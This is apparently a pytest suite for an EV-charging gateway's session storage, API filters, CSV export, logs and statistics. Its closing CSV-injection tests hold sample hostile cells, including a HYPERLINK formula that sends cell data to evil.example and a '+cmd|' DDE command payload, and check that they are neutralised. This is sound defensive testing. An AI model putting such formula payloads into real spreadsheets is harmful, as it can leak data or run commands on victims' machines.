"""Sessions from the bus into the database and out through /api/sessions — on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import jsonschema
import pytest
from sqlmodel import Session, select

from services.gateway.sessions_export import neutralised, sessions_csv
from services.gateway.statistics import Figures, compute_statistics, publish_statistics
from shared.bus import Bus
from shared.config import Config
from shared.db import ChargerStatusLog, ChargingSession, CommandLog
from shared.messages import ChargerStatusChanged, ChargeStatus, CommandApplied, CommandReason, SessionEvent
from shared.state import StatisticsPeriod
from tests.gateway.conftest import publish_complete_tree, running_gateway
from tests.gateway.test_contract import reference_spec
from tests.support.postgres import postgres_schema
from tests.support.probe import Probe


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'sessions.db'}"
    else:
        with postgres_schema("gw") as url:
            yield url


def session_event(kind: str, uid: str, **values: object) -> SessionEvent:
    base: dict[str, object] = {
        "event_id": uuid.uuid4().hex,
        "kind": kind,
        "session_uid": uid,
        "loadpoint": "Garage",
        "loadpoint_id": 1,
        "vehicle": "Blue e-Golf",
        "created": datetime(2025, 3, 14, 8, 30, tzinfo=UTC),
    }
    return SessionEvent.model_validate(base | values)


async def publish(probe: Probe, config: Config, kind: str, payload: str) -> None:
    await probe.publish(f"{config.mqtt.internal}/events/{kind}", payload)


async def test_session_lifecycle_is_idempotent_and_listed(config: Config, probe: Probe, db_url: str) -> None:
    async with running_gateway(config, db_url) as gw:
        writer = gw.ctx.writer
        created = session_event("created", "s1", meter_start_kwh=100.0, soc_start_pct=20.0)
        finished = session_event(
            "finished",
            "s1",
            finished=datetime(2025, 3, 14, 10, 0, 5, tzinfo=UTC),
            meter_start_kwh=100.0,
            meter_end_kwh=112.34567,
            charged_kwh=12.34567,
            charge_duration_s=5025.5,
            soc_start_pct=20.0,
            soc_end_pct=55.6,
            odometer_km=12345.67,
            solar_percentage=81.25,
            price=2.5,
        )
        tiny = session_event("finished", "s2", charged_kwh=0.01)
        for event in (created, finished, finished, tiny):  # the repeated event is a QoS 1 redelivery
            await publish(probe, config, "session", event.model_dump_json())
        await writer.wait_handled(4)

        response = await gw.client.get("/api/sessions")
        sessions = response.json()["result"]
        assert len(sessions) == 1  # one row per session_uid; < 0.05 kWh hidden as in evcc
        row = sessions[0]
        assert row["id"] >= 1 and row["chargedEnergy"] == 12.34567 and row["meterStop"] == 112.34567
        assert row["chargeDuration"] == 5_025_500_000_000  # ns, as evcc
        assert row["odometer"] == 12345.7
        assert datetime.fromisoformat(row["created"]) == datetime(2025, 3, 14, 8, 30, tzinfo=UTC)


async def test_an_open_session_says_finished_at_evccs_zero_time(config: Config, probe: Probe) -> None:
    async with running_gateway(config) as gw:
        open_session = session_event("updated", "open", meter_start_kwh=5.0, charged_kwh=1.5)
        await publish(probe, config, "session", open_session.model_dump_json())
        await gw.ctx.writer.wait_handled(1)
        body = (await gw.client.get("/api/sessions")).json()
        (row,) = body["result"]
        assert row["chargedEnergy"] == 1.5
        assert row["finished"] == "0001-01-01T00:00:00Z"  # evcc's zero time; the spec's Timestamp is no null
        assert "co2PerKWh" not in row and "price" not in row  # unknown: left out, the spec has no null
        assert row["odometer"] is None  # the spec's nullable keys stay
        reference = reference_spec()  # and the whole body is valid against the reference's schema
        jsonschema.validate(body["result"], json_schema(reference, "ChargingSessions"))


def json_schema(spec: dict[str, Any], name: str) -> dict[str, Any]:
    """An OpenAPI 3.0 component as JSON Schema (``nullable`` → a ``null`` type), its references resolvable."""

    def convert(node: Any) -> Any:
        if isinstance(node, dict):
            out = {key: convert(value) for key, value in node.items() if key != "nullable"}
            if node.get("nullable") and "type" in out:
                out["type"] = [out["type"], "null"]
            return out
        return [convert(item) for item in node] if isinstance(node, list) else node

    return {"$ref": f"#/components/schemas/{name}", "components": convert(spec["components"])}


async def test_filters_csv_in_english_and_german(config: Config, probe: Probe, db_url: str) -> None:
    config.site.timezone = "Europe/Berlin"
    async with running_gateway(config, db_url) as gw:
        writer = gw.ctx.writer
        march = session_event(
            "finished",
            "m",
            created=datetime(2025, 3, 31, 22, 30, tzinfo=UTC),  # already April 1st in Berlin
            finished=datetime(2025, 3, 31, 23, 45, tzinfo=UTC),
            charged_kwh=7.123456,
            charge_duration_s=4384,
            odometer_km=1000.4,
            soc_start_pct=10.4,
            price=1.5,
        )
        other = session_event(
            "finished", "o", created=datetime(2024, 7, 1, 12, 0, tzinfo=UTC), charged_kwh=3.0
        )
        for event in (march, other):
            await publish(probe, config, "session", event.model_dump_json())
        await writer.wait_handled(2)

        april = (await gw.client.get("/api/sessions", params={"year": 2025, "month": 4})).json()["result"]
        march_list = (await gw.client.get("/api/sessions", params={"year": 2025, "month": 3})).json()[
            "result"
        ]
        year_2024 = (await gw.client.get("/api/sessions", params={"year": 2024})).json()["result"]
        assert [s["chargedEnergy"] for s in april] == [7.123456]
        assert march_list == []
        assert [s["chargedEnergy"] for s in year_2024] == [3.0]

        english = await gw.client.get("/api/sessions", params={"format": "csv", "year": 2025, "month": 4})
        assert english.headers["content-disposition"] == 'attachment; filename="session-2025-04.csv"'
        assert english.content.startswith(b"\xef\xbb\xbf")
        lines = english.content.decode("utf-8-sig").splitlines()
        assert lines[0].startswith("Created,Finished,Charging point,Identifier,Vehicle,Mileage (km)")
        cells = lines[1].split(",")
        assert cells[:3] == ["2025-04-01 00:30:00", "2025-04-01 01:45:00", "Garage"]
        assert cells[5] == "1000"  # odometer as a whole number
        assert cells[8] == "7.1235"  # energy to 4 decimals
        assert cells[9] == "1h13m4s"  # Go duration
        assert cells[10] == "10"
        assert cells[14] == "1.5"

        german = await gw.client.get(
            "/api/sessions", params={"format": "csv"}, headers={"Accept-Language": "de-DE,de;q=0.9"}
        )
        assert german.content.decode("utf-8-sig").splitlines()[0].startswith("Startzeit,Endzeit,Ladepunkt")
        english_by_lang = await gw.client.get(
            "/api/sessions", params={"format": "csv", "lang": "en"}, headers={"Accept-Language": "de"}
        )
        assert english_by_lang.content.decode("utf-8-sig").startswith("Created")

        for bad in ({"month": "13"}, {"year": "x"}, {"year": "2025", "month": "0"}, {"format": "pdf"}):
            response = await gw.client.get("/api/sessions", params=bad)
            assert response.status_code == 400 and "error" in response.json()
        for spec_valid in ({"month": "3"}, {"year": "-5"}, {"year": "0"}):  # as evcc: no error
            assert (await gw.client.get("/api/sessions", params=spec_valid)).status_code == 200
        assert (await gw.client.get("/api/sessions", params={"year": "1999"})).json() == {"result": []}


async def test_edit_and_delete_session(config: Config, probe: Probe, db_url: str) -> None:
    async with running_gateway(config, db_url) as gw:
        await publish(
            probe, config, "session", session_event("finished", "e", charged_kwh=5.0).model_dump_json()
        )
        await gw.ctx.writer.wait_handled(1)
        (row,) = (await gw.client.get("/api/sessions")).json()["result"]

        edited = await gw.client.put(
            f"/api/session/{row['id']}", json={"vehicle": "Red Zoe", "odometer": 2000}
        )
        assert edited.status_code == 200 and edited.json()["result"]["vehicle"] == "Red Zoe"
        bad = await gw.client.put(f"/api/session/{row['id']}", json={"vehicle": 5})
        assert bad.status_code == 400
        other_field = await gw.client.put(f"/api/session/{row['id']}", json={"price": 0, "odometer": 2000})
        assert other_field.status_code == 200  # as evcc: fields it cannot edit are ignored ...
        assert other_field.json()["result"].get("price") == row.get("price")  # ... and stay as they were
        cleared = await gw.client.put(f"/api/session/{row['id']}", json={"vehicle": None})
        assert "vehicle" not in cleared.json()["result"]  # no vehicle: no key (the spec has no null for it)
        (after,) = (await gw.client.get("/api/sessions")).json()["result"]
        assert after["odometer"] == 2000.0 and "vehicle" not in after

        missing = await gw.client.delete("/api/session/999")
        assert missing.status_code == 404
        deleted = await gw.client.delete(f"/api/session/{row['id']}")
        assert deleted.json() == {"result": None}
        assert (await gw.client.get("/api/sessions")).json()["result"] == []


async def test_command_and_status_logs_are_written_once(config: Config, probe: Probe, db_url: str) -> None:
    command = CommandApplied(
        event_id="c1", loadpoint=1, charger="wallbox", seq=7, enabled=True, current_a=10.0, phases=3,
        reason=CommandReason.SOLAR_CHARGING,
    )  # fmt: skip
    status = ChargerStatusChanged(
        event_id="st1", loadpoint=1, charger="wallbox", status=ChargeStatus.C, previous=ChargeStatus.B
    )
    async with running_gateway(config, db_url) as gw:
        for kind, event in (("command", command), ("command", command), ("charger-status", status)):
            await publish(probe, config, kind, event.model_dump_json())
        await publish(probe, config, "command", '{"not": "a command"}')
        await gw.ctx.writer.wait_handled(4)
        with Session(gw.ctx.engine) as session:
            commands = session.exec(select(CommandLog)).all()
            statuses = session.exec(select(ChargerStatusLog)).all()
        assert [(c.seq, c.current_a, c.reason) for c in commands] == [(7, 10.0, "SOLAR_CHARGING")]
        assert [(s.status, s.previous) for s in statuses] == [("C", "B")]


async def test_events_published_while_gateway_is_down_are_not_lost(config: Config, probe: Probe) -> None:
    async with running_gateway(config):
        pass  # the persistent session (and its subscription) now exists on the broker
    late = session_event(
        "finished", "late", charged_kwh=9.5, finished=datetime.now(UTC) - timedelta(minutes=1)
    )
    await publish(probe, config, "session", late.model_dump_json())
    async with running_gateway(config) as gw:
        await gw.ctx.writer.wait_handled(1)
        sessions = (await gw.client.get("/api/sessions")).json()["result"]
        assert [s["chargedEnergy"] for s in sessions] == [9.5]


def test_statistics_periods_are_kwh_weighted() -> None:
    now = datetime(2025, 6, 15, 12, 0, tzinfo=UTC)
    rows = [
        Figures(now - timedelta(days=2), 10.0, 100.0, 0.30, None),
        Figures(now - timedelta(days=40), 30.0, 0.0, 0.20, 400.0),
        Figures(datetime(2024, 12, 31, 12, 0, tzinfo=UTC), 5.0, None, None, None),
    ]
    stats = compute_statistics(rows, now, ZoneInfo("Europe/Berlin"))
    assert stats.d30 is not None and stats.d30.chargedKWh == 10.0 and stats.d30.solarPercentage == 100.0
    assert stats.thisYear is not None and stats.thisYear.chargedKWh == 40.0
    assert stats.thisYear.solarPercentage == 25.0  # (10·100 + 30·0) / 40
    assert stats.thisYear.avgPrice == pytest.approx(0.225)  # (10·0.30 + 30·0.20) / 40
    assert stats.total is not None and stats.total.chargedKWh == 45.0 and stats.total.avgCo2 == 400.0


async def test_statistics_reach_the_state_after_sessions_change(config: Config, probe: Probe) -> None:
    async with running_gateway(config) as gw:
        stop = asyncio.Event()
        task = asyncio.create_task(
            publish_statistics(gw.ctx.bus, gw.ctx.engine, UTC, gw.ctx.sessions_changed, stop, None)
        )
        await gw.store.wait_for(lambda s: s.site().statistics is not None)
        finished = datetime.now(UTC) - timedelta(hours=1)
        event = session_event("finished", "st", created=finished - timedelta(hours=1), finished=finished,
                              charged_kwh=8.0, solar_percentage=50.0)  # fmt: skip
        await publish(probe, config, "session", event.model_dump_json())
        await gw.store.wait_for(
            lambda s: (s.site().statistics.total or StatisticsPeriod()).solarPercentage == 50
        )
        owner = config.mqtt.model_copy(update={"client_id": f"owner-{uuid.uuid4().hex[:8]}"})
        async with Bus(owner, "optimizer") as bus:
            await publish_complete_tree(bus, config)
            await gw.store.wait_for(lambda s: s.snapshot().ready)
        state = (await gw.client.get("/api/state", params={"jq": ".statistics"})).json()["result"]
        assert state["30d"]["chargedKWh"] == 8.0 and state["total"]["solarPercentage"] == 50.0
        stop.set()
        await asyncio.wait_for(task, 5)


async def test_events_wait_for_an_unavailable_database(tmp_path: Path, probe: Probe, config: Config) -> None:
    """The database file cannot be opened at first (its folder is missing); the event is kept and written
    once the database is there — nothing is lost and the bus is not held up."""
    from sqlmodel import create_engine

    from services.gateway.events import EventWriter
    from shared.bus import BusMessage
    from shared.db import ChargingSession, migrate
    from shared.logging import get_logger

    folder = tmp_path / "later"
    engine = create_engine(f"sqlite:///{folder / 'db.sqlite'}")
    writer = EventWriter(engine, get_logger("gateway"))
    writer.RETRY_FIRST_S = 0.05
    event = session_event("finished", "x", charged_kwh=4.0)
    await writer.on_message(BusMessage("c/events/session", event.model_dump_json().encode(), False))
    await writer.wait_until(lambda w: w.failed_attempts >= 2)
    assert writer.handled == 0
    folder.mkdir()
    migrate(engine)
    await writer.wait_handled(1)
    with Session(engine) as session:
        assert [r.charged_kwh for r in session.exec(select(ChargingSession)).all()] == [4.0]
    await writer.close()
    engine.dispose()


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a negative number stays a number
        ("+3", "+3"),
        ("- 3", "'- 3"),
        ("e-Golf", "e-Golf"),
        ("", ""),
    ],
)
def test_csv_cells_never_start_a_formula(text: str, cell: str) -> None:
    assert neutralised(text) == cell


def test_csv_export_neutralises_the_vehicle_and_keeps_negative_numbers() -> None:
    row = ChargingSession(
        session_uid="x",
        created=datetime(2025, 4, 1, 8, 0),
        finished=datetime(2025, 4, 1, 9, 0),
        loadpoint="@Garage",
        vehicle='=HYPERLINK("http://evil.example","x")',
        charged_kwh=5.0,
        price=-1.25,
        charge_duration=0,
    )
    lines = sessions_csv([row], "en", UTC).splitlines()
    cells = next(csv.reader([lines[1]]))
    header = next(csv.reader([lines[0].lstrip("\ufeff")]))
    assert cells[header.index("Vehicle")] == '\'=HYPERLINK("http://evil.example","x")'
    assert cells[header.index("Charging point")] == "'@Garage"
    assert cells[header.index("Cost")] == "-1.25"
